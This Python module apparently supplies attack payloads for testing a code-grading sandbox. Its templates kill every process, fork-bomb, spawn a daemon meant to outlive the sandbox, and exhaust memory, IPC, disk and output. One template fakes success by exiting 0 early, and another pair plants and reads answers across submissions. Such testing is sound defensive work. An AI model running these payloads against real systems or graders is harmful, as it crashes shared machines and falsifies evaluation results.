"""Attack classes "processes", "exhaustion", "output" and "leftovers": killing, filling and
flooding the machine, and files left for a later submission."""

from __future__ import annotations

KILL_ALL = '''\
def _rt_attack():
    """SIGKILL to the parent, pid 1, every process in sight, the process group and -1."""
    import signal

    me = _rt_os.getpid()
    for pid in (_rt_os.getppid(), 1):
        try:
            _rt_os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    for entry in _rt_os.listdir("/proc"):
        if entry.isdigit() and int(entry) != me:
            try:
                _rt_os.kill(int(entry), signal.SIGKILL)
            except OSError:
                pass
    for kill in (lambda: _rt_os.killpg(0, signal.SIGKILL), lambda: _rt_os.kill(-1, signal.SIGKILL)):
        try:
            kill()
        except OSError:
            pass
    _rt_os.kill(me, signal.SIGKILL)
'''

EXIT_EARLY = """\
if not _rt_in_kernel():
    _rt_os._exit(0)  # in the clean room: end with status 0 before any result is written
"""

FORK_BOMB = '''\
def _rt_attack():
    """Fill the process table: a shell starting thousands of sleepers, and forks of this process."""
    import subprocess
    import time

    script = "i=0; while [ $i -lt 6000 ]; do sleep 240 & i=$((i+1)); done; wait"
    try:
        subprocess.Popen(["/bin/sh", "-c", script], start_new_session=True,
                         stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    except OSError:
        pass
    for _ in range(200):
        try:
            pid = _rt_os.fork()
        except OSError:
            break
        if pid == 0:
            time.sleep(240)
            _rt_os._exit(0)
    time.sleep(5)
    return None
'''

DAEMON = '''\
def _rt_attack():
    """A daemon (double fork, new session, signals ignored) meant to outlive the sandbox."""
    import signal

    pid = _rt_os.fork()
    if pid == 0:
        try:
            _rt_os.setsid()
            if _rt_os.fork() == 0:
                for sig in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
                    signal.signal(sig, signal.SIG_IGN)
                _rt_os.chdir("/")
                _rt_os.execv("/bin/sleep", [_RT_MARKER + "-daemon", "900"])
        finally:
            _rt_os._exit(0)
    _rt_os.waitpid(pid, 0)
    return None
'''

MEMORY_20GB = '''\
def _rt_attack():
    """Allocate and touch 20 GiB, 1 GiB at a time (a MemoryError ends the cell, as it would)."""
    blocks = []
    for _ in range(20):
        blocks.append(b"x" * 2**30)
        if len(blocks) == 8:
            _rt_leak("8 GiB allocated in one process", len(blocks))
    return None
'''

MEMORY_PROCESSES = '''\
def _rt_attack():
    """Four small Pythons holding 1.25 GiB each at once: more than the submission's memory."""
    import subprocess

    hold = "import time; block = b'x' * (5 * 2**28); time.sleep(8)"
    children = []
    for _ in range(4):
        try:
            children.append(subprocess.Popen([_rt_sys.executable, "-c", hold],
                                             stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL))
        except OSError:
            pass
    held = sum(1 for child in children if child.wait() == 0)
    if children and held == len(children):
        _rt_leak("5 GiB held across four processes", held)
    return None
'''

IPC = '''\
def _rt_attack():
    """System V shared memory, semaphores and message queues, and POSIX shm, left behind."""
    import ctypes
    import zlib

    libc = ctypes.CDLL(None, use_errno=True)
    libc.shmget.argtypes = [ctypes.c_int, ctypes.c_size_t, ctypes.c_int]
    base = zlib.crc32(_RT_MARKER.encode()) & 0x3FFFFFF0
    created = 0
    for i in range(48):
        created += libc.shmget(base + i, 65536, 0o1666) >= 0
        created += libc.semget(base + 4096 + i, 4, 0o1666) >= 0
        created += libc.msgget(base + 8192 + i, 0o1666) >= 0
    for i in range(8):
        for folder in ("/dev/shm", "/dev/mqueue"):
            try:
                with open("%s/%s-ipc-%d" % (folder, _RT_MARKER, i), "wb") as handle:
                    handle.write(b"x" * 4096)
            except OSError:
                pass
    return None
'''

DISK = '''\
def _rt_attack():
    """Large files in HOME and TMPDIR, shared scratch folders filled, a tree too deep to remove."""
    chunk = b"x" * 2**20
    home = _RtPath(_rt_os.environ.get("HOME", "."))
    tmp = _RtPath(_rt_os.environ.get("TMPDIR", "/tmp"))
    for folder, megabytes in ((home, 512), (tmp, 256), (_RtPath("/tmp"), 64),
                              (_RtPath("/var/tmp"), 64), (_RtPath("/dev/shm"), 64)):
        try:
            with open(folder / (_RT_MARKER + "-fill"), "wb") as handle:
                for _ in range(megabytes):
                    handle.write(chunk)
        except OSError:
            pass
    for folder in (home, _RtPath.cwd()):
        start = _rt_os.getcwd()
        try:
            _rt_os.chdir(folder)
            for _ in range(3000):
                _rt_os.mkdir(_RT_MARKER + "-deep")
                _rt_os.chdir(_RT_MARKER + "-deep")
        except OSError:
            pass
        finally:
            _rt_os.chdir(start)
    return None
'''

HUGE_LINE = '''\
def _rt_attack():
    """200 MB on one line, on stdout and on stderr."""
    line = "x" * 200_000_000
    print(line, flush=True)
    _rt_sys.stderr.write(line + "\\n")
    _rt_sys.stderr.flush()
    del line
    return None
'''

ENDLESS = '''\
def _rt_attack():
    """Kernel: lines without end (paced, so that the machine is not flooded). Clean room:
    sleep forever, deaf to SIGTERM, SIGINT and SIGHUP."""
    import signal
    import time

    if not _rt_in_kernel():
        for sig in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
            try:
                signal.signal(sig, signal.SIG_IGN)
            except (OSError, ValueError):
                pass
        while True:
            time.sleep(1)
    number = 0
    while True:
        number += 1
        print("line", number, "of an endless output", flush=number % 1000 == 0)
        if number % 1000 == 0:
            time.sleep(0.01)
'''

PLANT = '''\
_RT_PAYLOAD = "__PAYLOAD__"


def _rt_shared_places():
    return ["/tmp", "/var/tmp", "/dev/shm", "/run/lock", "/var/lock", "/run/shm", "/dev/mqueue",
            _rt_os.environ.get("HOME", "/nonexistent"),
            _rt_os.environ.get("TMPDIR", "/nonexistent"),
            str(_RtPath.cwd().parent), str(_RtPath.cwd().parent.parent)]


def _rt_attack():
    """Plant the answers for a later submission: files wherever writable, System V shared memory."""
    import base64
    import ctypes
    import zlib

    payload = base64.b64decode(_RT_PAYLOAD)
    for folder in _rt_shared_places():
        path = _rt_os.path.join(folder, _RT_MARKER + "-plant.py")
        try:
            with open(path, "wb") as handle:
                handle.write(payload)
            _rt_os.chmod(path, 0o666)
        except OSError:
            pass
    libc = ctypes.CDLL(None, use_errno=True)
    libc.shmget.argtypes = [ctypes.c_int, ctypes.c_size_t, ctypes.c_int]
    libc.shmat.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_int]
    libc.shmat.restype = ctypes.c_void_p
    key = (zlib.crc32((_RT_MARKER + "plant").encode()) & 0x3FFFFFFF) | 1
    shmid = libc.shmget(key, 1 << 20, 0o1666)
    if shmid >= 0:
        address = libc.shmat(shmid, None, 0)
        if address not in (None, ctypes.c_void_p(-1).value):
            data = len(payload).to_bytes(8, "little") + payload
            ctypes.memmove(address, data, len(data))
            libc.shmdt(ctypes.c_void_p(address))
    return None
'''

READ_LEFTOVERS = '''\
def _rt_shared_places():
    return ["/tmp", "/var/tmp", "/dev/shm", "/run/lock", "/var/lock", "/run/shm", "/dev/mqueue",
            _rt_os.environ.get("HOME", "/nonexistent"),
            _rt_os.environ.get("TMPDIR", "/nonexistent"),
            str(_RtPath.cwd().parent), str(_RtPath.cwd().parent.parent)]


def _rt_read_shm():
    import ctypes
    import zlib

    libc = ctypes.CDLL(None, use_errno=True)
    libc.shmget.argtypes = [ctypes.c_int, ctypes.c_size_t, ctypes.c_int]
    libc.shmat.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_int]
    libc.shmat.restype = ctypes.c_void_p
    key = (zlib.crc32((_RT_MARKER + "plant").encode()) & 0x3FFFFFFF) | 1
    shmid = libc.shmget(key, 0, 0)
    if shmid < 0:
        return None
    address = libc.shmat(shmid, None, 0o10000)
    if address in (None, ctypes.c_void_p(-1).value):
        return None
    size = int.from_bytes(ctypes.string_at(address, 8), "little")
    data = ctypes.string_at(address + 8, min(size, (1 << 20) - 8))
    libc.shmdt(ctypes.c_void_p(address))
    return data.decode("utf-8", "replace")


def _rt_attack():
    """Look for what an earlier submission planted; use the answers found."""
    import time

    namespace = _rt_namespace()
    deadline = time.monotonic() + 2
    while time.monotonic() < deadline:
        for folder in _rt_shared_places():
            path = _rt_os.path.join(folder, _RT_MARKER + "-plant.py")
            try:
                with open(path) as handle:
                    text = handle.read()
            except OSError:
                continue
            _rt_leak("a leftover file", path)
            return _rt_use(text, namespace)
        try:
            text = _rt_read_shm()
        except Exception:
            text = None
        if text:
            _rt_leak("leftover System V shared memory", len(text))
            return _rt_use(text, namespace)
        time.sleep(0.5)
    return namespace
'''
